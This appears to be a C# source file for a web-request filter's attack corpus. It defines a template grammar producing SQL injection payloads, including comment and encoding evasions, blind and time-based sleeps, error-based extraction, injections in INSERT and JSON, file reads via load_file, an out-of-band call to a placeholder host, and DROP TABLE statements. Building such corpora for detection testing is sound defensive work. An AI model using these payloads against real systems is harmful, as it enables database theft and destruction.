namespace Weir.Http.Corpus.Attacks;

/// <summary>Statements without blanks, with comments and encodings, inside INSERT, JSON and functions.</summary>
/// <remarks>CAPEC-267, CAPEC-66, CWE-89; comment and literal syntax of each dialect.</remarks>
internal static class SqliDisguise
{
    public const string Text = """"
        ¶ ---- without blanks, with comments, with encodings ----
        §disguised
        4× «plain→sqlblank»
        3× «plain→case»
        4× «plain→spaced»
        «wholeinjected→spaced»
        2× «plain→case→sqlblank»
        2× «plain→url»
        «plain→urllower»
        «plain→urltwice»
        «plain→urlsome»
        «plain→plus»
        «plain→percentu»
        2× «num»/*!«#10000-60000»union*//*!«#10000-60000»select*/«cols»
        2× «lead»/*!«unionq» /*!«selectword»*/ «cols»*/
        «lead»«or3»(«cond»)«or3»'
        «num»'«or3»(select(«num»)from(«table»))«or3»'
        «lead»union(select(«num»),(«scalarfn»),(«num»))«comment»
        «lead»%0Aunion%0Aselect%0A«cols→url»«comment»
        «lead»/*«rand»*/union/*«rand»*/select/*«rand»*/«cols»
        «lead»un«ion¦<>ion¦/**/ion» se«lect¦<>lect¦/**/lect» «cols»
        «num».«union¦e0union» select «cols»
        «num»e«#0-9»union select «cols»
        «num»'-(case when «cond» then 0 else 1 end)-'
        «lead»{«letter» «num»}union select «cols»
        «lead»^(«query1»)^«lead»
        «lead»%«hexdigit»«hexdigit»%27 «orword» «cond»
        «lead»&&«cond»%23
        «lead»-0 union select «cols»
        «num»'!='«num»'«or3»'«num»
        «lead»=\N/**/union/**/select «cols»
        «lead» or «hexlit» like «hexlit»«comment»
        «lead»;set @«$a:letter»=«hexlit»«rand→hex»;prepare «letter» from @«$a»;execute «letter»
        §or3
        «||¦&&¦or¦and¦^¦-¦+¦*»
        §plain
        4× «lead» «unionq»«tailpart»
        4× «lead» «boolean»«tailpart»
        2× «lead» «timed»«tailpart»
        2× «loginform»
        «lead» «errorbased»«tailpart»
        «lead»;«statement»«comment»
        «lead» «blind»«tailpart»

        ¶ ---- inside INSERT, JSON and functions ----
        §insert
        2× «word»',«'«word»'¦«num»¦(«query1»)»,«'«word»'¦«num»»)«comment»
        '+(«query1»)+'
        '||(«query1»)||'
        «word»'),('«word»',(«query1»))«comment»
        ',(«query1»),'«word»')«comment»
        «word»',«col»=«'«word»'¦(«query1»)» where «cond»«comment»
        «num»,(«query1»))«comment»
        «word»') on duplicate key update «col»='«rand»'«comment»
        «word»' or updatexml(1,concat(0x7e,(«scalarfn»)),0) or '
        «num»),(«num»,«scalarfn»
        §injson
        3× {"«param»":"«plain→json»"}
        {"«param»":"«num»","«param»":"«plain→json»"}
        2× «param»=«plain»
        «param»=«plain→plus»
        /«word»«.php¦.asp¦.jsp¦.aspx¦»?«param»=«plain→plus»
        "«plain»"
        «word»' and json_extract('{"a":1}','$.a')=1 «comment»
        ' or json_length('{}')<=«#1-99»«comment»
        ' or '{"b":2}'::jsonb <@ '{"a":1,"b":2}'::jsonb«comment»
        ' or data @> '{"a":"b"}'«comment»
        «param»=«num»+and+1=1&«param»=«num»
        ["«plain→json»"]
        <«word»>«plain»</«word»>
        «plain→b64»
        §shortcond
        4× «num»
        2× «num»=«num»
        «lq»«lq»=«lq»
        «lq»«letter»«lq»=«lq»«letter»
        true
        «num»<«num»
        «num»>«num»
        «letter»=«letter»
        sleep(«#1-9»)
        not «num»
        null
        «num» is null
        «num» like «num»
        §shortop
        2× ␠or␠
        2× ␠and␠
        «||¦&&¦-¦+¦*¦/¦%¦^¦|¦&¦=¦<>¦>¦<¦ in ¦ xor ¦ div ¦ rlike ¦/**/or/**/¦%20or%20¦+or+»
        §shortend
        4×
        3× --
        2× #
        2× --␠
        ;--
        ;
        /*
        )--
        '
        "
        ;#
        %00
        )
        ) or (1=1
        §functioncall
        2× (select(sleep(«#1-30»)))
        (select * from(select(sleep(«#1-30»)))a)
        (select load_file('\\\\«oasthost»\\«letter»'))
        «extractvalue¦updatexml»(«num»,concat(0x7e,«scalarfn»)«¦,1»)
        concat(«hexlit»,(«query1»),«hexlit»)
        (case when «cond» then «ident» else «ident» end)
        if(«cond»,sleep(«#1-9»),0)
        §wholestatement
        2× select «cols» from «table»«¦ where «cond»»
        «query1»
        select * from «table» where «ident»='«lq»«or2»«ltrue»«lend»
        select «scalarfn»«¦,«scalarfn»»
        «statement»;
        select «col»,«col» from «table» into outfile '/tmp/«rand»'
        select load_file(«'«unixfile»'¦«hexlit»»)
        select «sleep¦pg_sleep»(«#1-30»)
        insert into «table» values('«word»','«rand»')«comment»
        drop table «table»;--
        """";
}
